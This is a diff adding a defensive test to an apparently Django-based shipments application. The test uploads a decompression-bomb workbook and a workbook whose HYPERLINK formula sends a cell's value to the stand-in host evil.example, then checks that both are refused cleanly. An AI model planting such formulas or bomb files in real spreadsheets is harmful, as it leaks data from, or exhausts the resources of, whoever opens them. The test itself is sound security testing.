@@ -397,3 +397,29 @@ def test_an_admin_uploads_a_signing_certificate_and_a_wrong_password_is_refused(
     assert not active.self_signed
     assert bytes(active.bundle) == bundle
     assert "s3cret-pass" not in active.password_sealed
+
+
+def test_a_hostile_shipments_workbook_is_refused_with_a_reason(csrf_client, demo):
+    from chainproof.domain.cases.shipment_columns import SHIPMENT_LINES
+    from tests.hostile_files import _over_ratio
+    from tests.xlsx_files import add_cell_xml, workbook_bytes
+
+    csrf_client.sign_in(demo)
+    header = list(SHIPMENT_LINES.column_names)
+    row = dict.fromkeys(header, None) | {"reference": "PO-H", "line": 1, "description": "Goods"}
+    clean = workbook_bytes([header, [row[name] for name in header]], title="shipments")
+    formula = add_cell_xml(
+        clean,
+        '<row r="3"><c r="A3" t="str"><f>HYPERLINK("http://evil.example/?x="&amp;B3,"Open")</f>'
+        "<v>Open</v></c></row>",
+        "xl/worksheets/sheet1.xml",
+    )
+    for name, data in (("bomb.xlsx", _over_ratio(clean)), ("formula.xlsx", formula)):
+        upload = io.BytesIO(data)
+        upload.name = name
+        response = csrf_client.submit("/cases/shipments/", {"action": "import", "file": upload})
+        assert response.status_code == 400, name
+        body = response.content.decode()
+        assert f"Nothing was imported from {name}" in body
+        assert "Traceback" not in body
+    assert not Shipment.objects.filter(reference="PO-H").exists()
